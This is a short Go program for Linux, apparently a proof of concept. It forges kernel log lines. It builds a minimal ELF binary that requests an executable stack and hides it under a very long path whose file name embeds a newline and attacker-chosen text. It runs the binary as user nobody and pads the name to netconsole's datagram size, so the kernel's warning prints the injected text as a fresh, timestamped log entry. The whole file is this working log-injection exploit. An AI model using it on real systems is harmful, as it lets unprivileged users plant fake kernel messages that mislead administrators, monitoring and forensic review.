//go:build linux

package main

import (
	"encoding/binary"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
)

// nobody is the uid of somebody without any privilege.
const nobody = 65534

const (
	// chunk is how much netconsole puts into one datagram (MAX_PRINT_CHUNK in the kernel's
	// drivers/net/netconsole.c).
	chunk = 1000
	// before and after are what the kernel prints around the program's path in the first line: its
	// time, and its warning (fs/exec.c).
	before = "[    1.234567] process '"
	after  = "\n"
)

// forge has the kernel itself print the text at the start of a line: it warns of the first program
// with an executable stack by the last four parts of its path, and does not mind what characters
// are in those. The first line fills a datagram, so that the second begins with the time that the
// kernel puts before every line.
func forge(text string) error {
	long := strings.Repeat("a", 255)
	dir := filepath.Join("/", long, long, long)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	fill := chunk - len(before) - len(dir) - len(after)
	program := filepath.Join(dir, strings.Repeat("b", fill)+"\n"+text+"\n")
	if err := os.WriteFile(program, executableStack(), 0o755); err != nil {
		return err
	}
	cmd := exec.Command(program)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody,
		Gid: nobody}}
	return cmd.Run()
}

// executableStack is the least program that wants one: two program headers, and exit(0).
func executableStack() []byte {
	const (
		base    = 0x400000
		headers = 64
		each    = 56
		entry   = headers + 2*each
		load    = 1
		gnuStk  = 0x6474e551
		rwx     = 7
	)
	code := []byte{0x31, 0xff, 0xb8, 60, 0, 0, 0, 0x0f, 0x05}
	le := binary.LittleEndian
	p := []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00")
	p = le.AppendUint16(p, 2)
	p = le.AppendUint16(p, 62)
	p = le.AppendUint32(p, 1)
	for _, v := range []uint64{base + entry, headers, 0} {
		p = le.AppendUint64(p, v)
	}
	p = le.AppendUint32(p, 0)
	for _, v := range []uint16{headers, each, 2, 0, 0, 0} {
		p = le.AppendUint16(p, v)
	}
	size := uint64(entry + len(code))
	for _, h := range [][8]uint64{{load, 5, 0, base, base, size, size, 0x1000},
		{gnuStk, rwx, 0, 0, 0, 0, 0, 16}} {
		p = le.AppendUint32(p, uint32(h[0]))
		p = le.AppendUint32(p, uint32(h[1]))
		for _, v := range h[2:] {
			p = le.AppendUint64(p, v)
		}
	}
	return append(p, code...)
}
